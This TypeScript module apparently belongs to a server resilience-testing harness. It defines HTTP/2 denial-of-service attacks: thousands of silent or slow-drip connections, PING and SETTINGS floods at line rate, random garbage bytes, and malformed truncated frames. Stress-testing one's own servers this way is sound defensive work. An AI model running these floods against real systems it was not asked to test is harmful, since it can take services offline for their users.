import { randomBytes } from 'node:crypto';
import { pause } from '../../jepsen/until.js';
import { type Attack, keep, type Target } from '../attack.js';
import { FLAGS, frame, PREFACE, RawConnection, TYPES } from '../raw-http2.js';

const SILENT_CONNECTIONS = 2_000;
const FLOODING_CONNECTIONS = 8;
/** Frames in one write. */
const BURST = 1_000;
const DRIP_EVERY_MS = 500;

/** Attacks below the first call: connections and frames that belong to none. */
export const CONNECTION_ATTACKS: readonly Attack[] = [
  {
    name: 'silent',
    what: '2,000 connections that say nothing',
    run: (target) => keep(SILENT_CONNECTIONS, async () => (await RawConnection.dial(target))?.over),
  },
  {
    name: 'half-preface',
    what: '2,000 connections that say half of how HTTP/2 begins, a byte at a time',
    run: (target) => keep(SILENT_CONNECTIONS, () => drip(target)),
  },
  {
    name: 'garbage',
    what: 'random bytes, before and after a good beginning',
    run: async (target) => {
      await Promise.all([
        keep(FLOODING_CONNECTIONS, async () => {
          const connection = await RawConnection.dial(target);
          await connection?.send(randomBytes(16_384));
          await connection?.over;
        }),
        keep(FLOODING_CONNECTIONS, async () => {
          const connection = await RawConnection.greet(target);
          await connection?.send(randomBytes(16_384));
          await connection?.over;
        }),
      ]);
    },
  },
  {
    name: 'ping-flood',
    what: 'PING frames at line rate, half of the connections without reading what comes back',
    run: (target) => flood(target, frame({ type: TYPES.ping, payload: Buffer.alloc(8) })),
  },
  {
    name: 'settings-flood',
    what: 'SETTINGS frames at line rate, half of the connections without reading what comes back',
    run: (target) => flood(target, frame({ type: TYPES.settings })),
  },
  {
    name: 'truncated-frames',
    what: 'frames that are shorter or longer than they say, of every type, and an end in the middle',
    run: (target) =>
      keep(FLOODING_CONNECTIONS * 4, async () => {
        const connection = await RawConnection.greet(target);
        const [type = 0, kind = 0] = randomBytes(2);
        const length = kind % 2 === 0 ? 16_384 : 0xff_ff_ff;
        await connection?.send(frame({ type: type % 12, flags: FLAGS.endHeaders, stream: kind % 4, payload: randomBytes(kind), length }));
        await pause(10);
        connection?.close();
      }),
  },
];

async function drip(target: Target): Promise<void> {
  const connection = await RawConnection.dial(target);
  if (connection === undefined) return;
  for (let at = 0; at < PREFACE.length / 2 && (await connection.send(PREFACE.subarray(at, at + 1))); at += 1) await pause(DRIP_EVERY_MS);
  await connection.over;
}

async function flood(target: Target, one: Buffer): Promise<void> {
  const burst = Buffer.concat(Array.from({ length: BURST }, () => one));
  const connections = async (reads: boolean): Promise<void> =>
    keep(FLOODING_CONNECTIONS / 2, async () => {
      const connection = await RawConnection.greet(target, { reads });
      if (connection === undefined) return;
      while (await connection.send(burst)) target.note('frames', BURST);
    });
  await Promise.all([connections(true), connections(false)]);
}
